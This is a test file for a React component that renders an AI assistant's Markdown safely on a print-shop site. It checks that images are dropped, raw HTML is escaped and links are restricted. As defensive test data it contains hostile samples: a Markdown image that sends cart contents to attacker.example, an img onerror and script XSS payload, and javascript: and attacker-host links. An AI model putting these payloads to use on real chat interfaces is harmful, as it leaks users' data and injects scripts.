import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { ChatMarkdown } from "./chat-markdown";
import { parseMarkdown, safeHref } from "./markdown-parse";

const html = (text: string) => renderToStaticMarkup(<ChatMarkdown text={text} />);

describe("the assistant's Markdown", () => {
  it("renders emphasis, code, lists and headings", () => {
    expect(html("**Sunsets** and *dunes*, `paper`")).toBe('<div class="space-y-2 break-words"><p><strong>Sunsets</strong> and <em>dunes</em>, <code class="rounded bg-stone-200 px-1 text-[0.9em] dark:bg-stone-700">paper</code></p></div>');
    expect(parseMarkdown("# Sizes\n- 8 × 10 in\n- 16 × 20 in\n\n1. first\n2. second")).toEqual([
      { kind: "heading", children: [{ kind: "text", text: "Sizes" }] },
      { kind: "list", ordered: false, start: 1, items: [[{ kind: "text", text: "8 × 10 in" }], [{ kind: "text", text: "16 × 20 in" }]] },
      { kind: "list", ordered: true, start: 1, items: [[{ kind: "text", text: "first" }], [{ kind: "text", text: "second" }]] },
    ]);
  });

  it("never renders an image: the alt text stays, the address is dropped", () => {
    const out = html("Look ![secret](https://attacker.example/?q=cart-contents) here, and [![x](https://attacker.example/a.png)](/photos/a)");
    expect(out).not.toMatch(/<img|attacker\.example/);
    expect(out).toContain("Look secret here");
  });

  it("shows raw HTML as text, never as markup", () => {
    const out = html('<img src="https://attacker.example/x.png" onerror="alert(1)"><script>alert(1)</script>');
    expect(out).not.toMatch(/<img|<script/);
    expect(out).toContain("&lt;img src=");
  });

  it("links only to this site's paths and https addresses, new tabs with noopener", () => {
    expect(html("[a print](/photos/last-light)")).toContain('<a href="/photos/last-light" class=');
    expect(html("[the carrier](https://tracking.example/1Z)")).toContain('href="https://tracking.example/1Z" target="_blank" rel="noopener noreferrer nofollow"');
    for (const bad of ["javascript:alert(1)", "//attacker.example/x", "/\\attacker.example", "http://plain.example", "data:text/html,hi", "https://user:pw@bank.example/"]) {
      const out = html(`[click](${bad})`);
      expect(out, bad).not.toContain("<a");
      expect(out, bad).toContain("click");
    }
    expect(safeHref("  /cart?x=1#y ")).toEqual({ href: "/cart?x=1#y", external: false });
  });

  it("turns bare https addresses into links, leaving trailing punctuation out", () => {
    expect(html("See https://printroom.example/care.")).toContain('href="https://printroom.example/care" target="_blank"');
  });

  it("leaves an unfinished emphasis of a streaming answer as it is", () => {
    expect(html("Here are **three")).toContain("Here are **three");
  });
});
